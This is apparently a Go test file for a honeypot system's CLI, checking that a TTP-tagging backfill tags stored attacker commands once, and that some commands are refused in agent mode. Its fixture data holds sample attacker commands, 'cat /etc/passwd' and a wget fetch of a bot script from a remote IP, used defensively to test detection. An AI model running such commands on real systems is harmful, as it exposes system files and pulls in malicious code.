package main

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/decnet/decnet/internal/config"
	"github.com/decnet/decnet/internal/model"
)

func TestTTPBackfillTagsStoredCommandsOnceWithoutTheBus(t *testing.T) {
	env := map[string]string{
		"DECNET_DATA_DIR": t.TempDir(),
		// Unreachable: the backfill must never need, or publish to, the bus.
		"DECNET_NATS_URL": "nats://127.0.0.1:1",
	}
	cfg, err := config.Load(func(k string) (string, bool) { v, ok := env[k]; return v, ok }, "")
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	st, _, err := openStore(ctx, cfg)
	if err != nil {
		t.Fatal(err)
	}
	const ip = "203.0.113.77"
	if _, err := st.UpsertAttacker(ctx, model.Attacker{IP: ip}); err != nil {
		t.Fatal(err)
	}
	var recs []model.IngestRecord
	for _, c := range []string{"cat /etc/passwd", "wget http://198.51.100.7/bot.sh", "ls -la"} {
		recs = append(recs, model.IngestRecord{Log: model.LogEntry{EventID: uuid.NewString(), Timestamp: time.Now(),
			Decky: "decky-01", Service: "ssh", EventType: "command", AttackerIP: ip,
			Fields: map[string]string{"command": c}}})
	}
	if _, err := st.CommitBatch(ctx, recs); err != nil {
		t.Fatal(err)
	}
	st.Close()

	out, err := runCLI(t, env, "ttp-backfill", "--source", "command", "--dry-run")
	if err != nil || !strings.Contains(out, "source=command rows=3 commands=3 inserted=0 dry_run=true") {
		t.Fatalf("dry run: %v\n%s", err, out)
	}
	out, err = runCLI(t, env, "ttp-backfill", "--source", "command")
	if err != nil || !strings.Contains(out, "rows=3 commands=3") || strings.Contains(out, "inserted=0") {
		t.Fatalf("first run: %v\n%s", err, out)
	}
	out, err = runCLI(t, env, "ttp-backfill", "--source", "all")
	if err != nil || !strings.Contains(out, "source=command rows=3 commands=3 inserted=0") ||
		!strings.Contains(out, "source=canary") {
		t.Fatalf("rerun: %v\n%s", err, out)
	}
	for _, args := range [][]string{{"--source", "dns"}, {"--since-days", "0"}, {"--batch-size", "0"}} {
		out, err := runCLI(t, env, append([]string{"ttp-backfill"}, args...)...)
		if ex, ok := err.(exitError); !ok || ex.code != 2 || !strings.Contains(out, "must be") {
			t.Errorf("%v: err %v, output %q; want exit 2 naming the flag", args, err, out)
		}
	}
}

func TestMasterOnlyCommandsAreRefusedOnAnAgent(t *testing.T) {
	env := map[string]string{"DECNET_DATA_DIR": t.TempDir(), "DECNET_MODE": "agent"}
	for _, args := range [][]string{{"ttp-backfill"}, {"teardown", "--all"}, {"deploy", "-n", "1", "--dry-run"}} {
		_, err := runCLI(t, env, args...)
		if err == nil || !strings.Contains(err.Error(), "master-only") || !strings.Contains(err.Error(), "DECNET_MODE=agent") {
			t.Errorf("%v on an agent: %v", args, err)
		}
	}
}

func TestTTPWorkerNeedsASharedNATSServer(t *testing.T) {
	_, err := runCLI(t, map[string]string{"DECNET_DATA_DIR": t.TempDir(), "DECNET_NATS_URL": ""}, "ttp")
	if err == nil || !strings.Contains(err.Error(), "DECNET_NATS_URL") {
		t.Fatalf("err = %v, want one naming DECNET_NATS_URL", err)
	}
}
